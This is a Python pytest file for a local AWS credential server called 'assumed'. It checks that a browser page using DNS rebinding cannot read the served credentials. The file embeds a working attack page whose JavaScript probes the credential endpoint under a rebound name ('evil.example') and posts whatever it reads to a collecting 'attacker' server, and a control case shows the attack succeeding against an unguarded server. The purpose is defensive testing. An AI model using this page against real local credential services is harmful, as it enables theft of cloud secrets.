"""A page in a real browser that uses DNS rebinding to reach the endpoint cannot read anything."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from process.kit import arn
from world.daemon import Home, python, role
from world.fake_sts import FakeSts
from world.scores import Record
from world.waiting import eventually

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
CANARY = "CanarySecretAccessKey"
NAME = "evil.example"
"""The browser resolves this to 127.0.0.1, as from the attacker's name server at the second query."""

PAGE = """<!doctype html><script>
const home = 'http://127.0.0.1:%(home)d/', endpoint = 'http://127.0.0.1:%(port)d/role/a';
const pause = () => new Promise(done => setTimeout(done, 50));
const report = (what, read) => fetch(home, {method: 'POST', mode: 'no-cors', body: JSON.stringify({what, read})});
(async () => {
  await report('loaded', '');
  // Until the name has come to mean somebody else: then the old page's server is gone.
  for (;; await pause()) {
    try { if ((await fetch('/who', {cache: 'no-store'})).status !== 200) break; } catch (e) {}
  }
  let token = '';
  for (; !token; await pause()) token = await (await fetch(home, {cache: 'no-store'})).text();
  const known = {headers: {Authorization: token}};
  const tries = {
    'same origin': ['/role/a', {}],
    'with the token': ['/role/a', known],
    'across origins': [endpoint, {}],
    'across origins with the token': [endpoint, known],
    'opaque': [endpoint, {mode: 'no-cors'}],
  };
  for (const [what, [url, how]] of Object.entries(tries)) {
    let read = '';
    try { const answer = await fetch(url, {cache: 'no-store', ...how}); read = answer.status + await answer.text(); }
    catch (e) { read = 'refused: ' + e; }
    await report(what, read);
  }
  await report('done', '');
})();
</script>"""


class Attacker:
    """A web server that serves `page` to everyone and records what the page could read."""

    def __init__(self, port: int = 0, token: str = "") -> None:
        """With a `token`: answers only requests that send it."""
        self.page = ""
        self.reports: dict[str, str] = {}
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                known = not token or self.headers["Authorization"] == token
                body = attacker.page.encode() if known else b""
                self.send_response(200 if known else 401)
                self.send_header("Content-Type", "text/html")
                if not token:
                    self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                attacker.reports[told["what"]] = told["read"]
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                """Silent."""

        self._server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = int(self._server.server_address[1])
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()

    def close(self) -> None:
        if self._thread.is_alive():
            self._server.shutdown()
            self._thread.join()
            self._server.server_close()


@pytest.fixture
def servers() -> Iterator[tuple[Attacker, Attacker]]:
    """The server behind the page, and the attacker's server that the page reports to."""
    both = Attacker(), Attacker()
    yield both
    for server in both:
        server.close()


@contextmanager
def guarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
    """`assumed serve` on that port: its token."""
    sts.rule("*", session_seconds=900)
    aws_home.configure(role("a", arn("a")))
    token = aws_home.path / "token"
    with subprocess.Popen(
        [python(), "-m", "assumed", "serve", "a", "--port", str(port), "--token-file", str(token), "--json"],
        env=aws_home.environment(AWS_ENDPOINT_URL_STS=sts.url),
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    ) as process:
        try:
            assert process.stdout is not None
            assert process.stdout.readline(), "it does not serve"
            yield token.read_text()
        finally:
            process.terminate()


@contextmanager
def unguarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
    """A server that checks the token and nothing else."""
    server = Attacker(port, "the-token-of-this-test")
    server.page = CANARY
    yield "the-token-of-this-test"
    server.close()


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
@pytest.mark.parametrize("endpoint", [guarded, unguarded])
def test_a_page_rebound_to_the_endpoint_reads_nothing(
    endpoint: Any,
    servers: tuple[Attacker, Attacker],
    aws_home: Home,
    sts: FakeSts,
    record: Record,
) -> None:
    """Not even with the token. From a server without our checks it reads everything, so the attack works."""
    front, home = servers
    front.page = PAGE % {"home": home.port, "port": front.port}
    assert CHROMIUM is not None
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    options += [
        "--disable-component-update",
        "--disable-sync",
        "--disable-quic",
        f"--user-data-dir={aws_home.path}/profile",
    ]
    options += [f"--host-resolver-rules=MAP {NAME} 127.0.0.1", "--remote-debugging-port=0"]
    with (aws_home.path / "browser.log").open("w") as log:
        browser = subprocess.Popen([CHROMIUM, *options, f"http://{NAME}:{front.port}/"], stdout=log, stderr=log)
    try:
        eventually(lambda: "loaded" in home.reports, 40, saying="the page")
        front.close()
        with endpoint(front.port, aws_home, sts) as token:
            home.page = token
            eventually(lambda: "done" in home.reports, 20, saying="what the page tried")
    finally:
        browser.terminate()
        browser.wait(20)
    assert len(home.reports) == 7
    secrets = {CANARY, *sts.secrets()}
    leaked = [what for what, read in home.reports.items() if any(secret in read for secret in secrets)]
    if endpoint is unguarded:
        assert leaked == ["with the token"]
        return
    record("endpoint.pages", 1)
    record("endpoint.leaked", len(leaked))
    assert not leaked, home.reports
    assert home.reports["same origin"].startswith("403")
    assert home.reports["with the token"].startswith("403")
